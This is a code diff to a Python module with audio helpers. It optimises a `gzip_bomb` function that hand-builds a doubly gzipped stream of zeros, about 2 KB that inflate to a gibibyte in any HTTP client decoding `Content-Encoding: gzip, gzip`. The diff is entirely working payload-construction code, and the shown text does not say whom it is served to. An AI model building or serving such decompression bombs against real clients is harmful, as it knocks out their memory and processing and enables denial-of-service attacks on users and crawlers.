@@ -37,11 +37,21 @@ def resample(samples: np.ndarray, rate: int, target: int) -> np.ndarray:
 @functools.cache
 def gzip_bomb(inflated_mib: int = 1024) -> bytes:
     """Zeros gzipped twice: about 2 KB that inflate to `inflated_mib` MiB when a client
-    decodes `Content-Encoding: gzip, gzip` (about 3 s to build 1 GiB, once a session)."""
-    inner = zlib.compressobj(9, zlib.DEFLATED, zlib.MAX_WBITS | 16)
+    decodes `Content-Encoding: gzip, gzip`.
+
+    A full flush resets the compressor, so every MiB of zeros compresses to the same bytes:
+    one is compressed and repeated, which takes a fraction of a second instead of seconds.
+    """
     zeros = bytes(1 << 20)
-    compressed = b"".join(inner.compress(zeros) for _ in range(inflated_mib)) + inner.flush()
-    return gzip.compress(compressed, 9)
+    deflate = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)  # raw deflate, framed below
+    block = deflate.compress(zeros) + deflate.flush(zlib.Z_FULL_FLUSH)
+    crc = 0
+    for _ in range(inflated_mib):
+        crc = zlib.crc32(zeros, crc)
+    header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"  # gzip, deflate, no name, no time
+    trailer = crc.to_bytes(4, "little") + ((inflated_mib << 20) & 0xFFFFFFFF).to_bytes(4, "little")
+    inner = header + block * inflated_mib + deflate.flush() + trailer
+    return gzip.compress(inner, 9)
 
 
 def silence(seconds: float) -> np.ndarray:
